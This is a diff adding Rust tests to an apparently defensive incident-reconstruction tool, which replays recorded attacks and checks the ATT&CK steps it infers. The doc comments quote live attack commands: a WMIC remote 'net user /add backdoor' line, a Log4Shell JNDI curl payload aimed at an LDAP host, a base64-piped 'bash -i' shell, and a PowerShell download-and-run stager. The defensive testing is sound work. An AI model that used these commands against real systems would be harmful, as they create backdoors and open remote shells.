@@ -44,13 +44,21 @@ fn decision(verb: Verb, on: On) -> Decision {
 
 /// That the one process of that program is the intruder's.
 fn confirm_program(case: &Case, program: &str) -> Decision {
+    let which = format!(
+        "e.source = 'windows/Microsoft-Windows-Sysmon/Operational' AND e.verb = 'execute' \
+         AND e.object_kind = 'process' AND e.object LIKE '%{program}'"
+    );
+    confirm(case, &which)
+}
+
+/// That the one event which these words tell is the intruder's act.
+fn confirm(case: &Case, which: &str) -> Decision {
     let sql = format!(
         "SELECT x.paths[1] AS path, e.member, e.ranges FROM events e JOIN exhibits x ON x.id = e.exhibit \
-         WHERE e.source = 'windows/Microsoft-Windows-Sysmon/Operational' AND e.verb = 'execute' \
-           AND e.object_kind = 'process' AND e.object LIKE '%{program}' ORDER BY e.time"
+         WHERE {which} ORDER BY e.time"
     );
     let found = rows(case, &sql);
-    let [row] = found.as_slice() else { panic!("{} starts of {program}", found.len()) };
+    let [row] = found.as_slice() else { panic!("{} events: {which}", found.len()) };
     let ranges: Vec<Range> = serde_json::from_value(row.value("ranges").clone()).unwrap();
     let file = match row.some_text("member") {
         Some(member) => format!("{}!/{member}", row.text("path")),
@@ -141,4 +149,99 @@ fn a_dump_by_procdump() {
     let times = "SELECT min(time) AS a, max(time) AS b FROM steps";
     let times = &rows(&case, times)[0];
     assert!(times.text("a") >= "2023-08-16T00:34" && times.text("b") <= "2023-08-16T00:40", "{times:?}");
+}
+
+/// The steps of the only incident in words: technique, account, machine, minute, outcome.
+fn course(case: &Case) -> Vec<String> {
+    assert_eq!(rows(case, "SELECT id FROM incidents").len(), 1);
+    let rows = rows(case, "SELECT technique, account, host, time, outcome FROM steps ORDER BY position");
+    let word = |row: &Row, key: &str| row.text(key).to_owned();
+    let told = |row: &Row| {
+        let (what, who, host) = (word(row, "technique"), word(row, "account"), word(row, "host"));
+        let host = host.split('.').next().unwrap_or(&host).to_owned();
+        format!("{what} {who} {host} {} {}", &word(row, "time")[11..16], word(row, "outcome"))
+    };
+    rows.iter().map(told).collect()
+}
+
+fn held(case: &Path, folder: &Path, file: &str) -> Case {
+    derived(case, &folder.join(file))
+}
+
+/// Operator, 2020-09-14, in an Empire agent on WORKSTATION5: `shell wmic /node:WORKSTATION6 process call create
+/// "net user /add backdoor pa$$w0rd1"`. The console says that the process was created; whether the account was, no
+/// record says.
+#[test]
+fn an_account_made_over_wmi() {
+    let Some(corpus) = corpus("the WMI transcript") else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let folder = corpus.join("otrf_multihost");
+    let mut case = held(&dir.path().join("case"), &folder, "empire_wmic_add_user_backdoor.zip");
+    assert_eq!(rows(&case, "SELECT id FROM incidents").len(), 0, "nothing is claimed before anybody decides");
+    let decision = confirm_program(&case, "WMIC.exe");
+    decide(&mut case, &[decision]);
+    let told = course(&case);
+    assert_eq!(
+        told,
+        [
+            r"T1047 THESHIRE\pgustavo WORKSTATION5 12:06 unknown",
+            r"T1021 THESHIRE\pgustavo WORKSTATION6 12:06 success",
+            r"T1136.001 THESHIRE\pgustavo WORKSTATION6 12:06 unknown",
+        ]
+    );
+    let came = "SELECT opening FROM sessions WHERE proven_by = 'same-connection'";
+    assert!(!rows(&case, came).is_empty(), "by the port that WMIC's connection and the logon share");
+}
+
+/// Operator, 2020-08-06 15:56:13 UTC, in a Covenant grunt on WORKSTATION5: `PowerShellRemotingCommand
+/// /computername:"WORKSTATION6" /command:"get-process" /username:"pgustavo"`. The grunt's start is in no record.
+#[test]
+fn a_command_over_remote_management() {
+    let Some(corpus) = corpus("the WinRM transcript") else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let folder = corpus.join("otrf_multihost");
+    let mut case = held(&dir.path().join("case"), &folder, "covenant_psremoting_command.zip");
+    // Three connections of the grunt to port 5985: any of them names it.
+    let first = "e.id IN (SELECT min(id) FROM events WHERE verb = 'connect' AND peer = '172.18.39.6' \
+                 AND source = 'windows/Microsoft-Windows-Sysmon/Operational' AND host LIKE 'WORKSTATION5%')";
+    let decision = confirm(&case, first);
+    decide(&mut case, &[decision]);
+    assert_eq!(course(&case), [r"T1021.006 THESHIRE\pgustavo WORKSTATION6 15:56 success"]);
+    let others = "SELECT verdict FROM sessions WHERE door = 'remote-management' AND verdict <> 'intruder'";
+    let others = rows(&case, others);
+    assert!(others.iter().all(|row| row.text("verdict") == "undetermined"), "{others:?}");
+}
+
+/// Operator, 2022-05-11: `curl -H 'user-agent: ${jndi:ldap://192.168.2.6:1389/o=reference}' 192.168.2.5:8080/…`, then
+/// in the shell that came back: `whoami`. Tomcat's Java runs `bash -c {echo,…}|{base64,-d}|{bash,-i}`.
+#[test]
+fn a_shell_from_a_log_line_on_linux() {
+    let Some(corpus) = corpus("the Log4Shell transcript") else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let file = "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip";
+    let mut case = held(&dir.path().join("case"), &corpus.join("log4shell"), file);
+    let decision = confirm(&case, "e.source = 'linux/auditd' AND e.object LIKE 'bash -c%'");
+    decide(&mut case, &[decision]);
+    assert_eq!(
+        course(&case),
+        ["T1059.004 tomcat UBUNTU5 18:10 unknown", "T1033 tomcat UBUNTU5 18:10 unknown"]
+    );
+    let others =
+        "SELECT e.actor FROM proven_events p JOIN events e ON e.id = p.event WHERE e.actor <> 'tomcat'";
+    assert!(rows(&case, others).is_empty(), "the monitoring agent's look at what runs is not the intruder's");
+}
+
+/// Operator, 2022-05-13: the same against Tomcat on Windows: an encoded PowerShell as the service's account. What is
+/// encoded is a stager, which ends in `$wc.DownloadData($ser+$t)` and runs what it fetched.
+#[test]
+fn a_shell_from_a_log_line_on_windows() {
+    let Some(corpus) = corpus("the Log4Shell transcript") else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let file = "sysmon_log4shell_cve2021_44228_java_serialized_object.zip";
+    let mut case = held(&dir.path().join("case"), &corpus.join("log4shell"), file);
+    let decision = confirm_program(&case, "powershell.exe");
+    decide(&mut case, &[decision]);
+    let told = ["T1027.010", "T1059.001", "T1105"]
+        .map(|technique| format!(r"{technique} NT AUTHORITY\LOCAL SERVICE WORKSTATION5 08:54 unknown"));
+    assert_eq!(course(&case), told);
 }
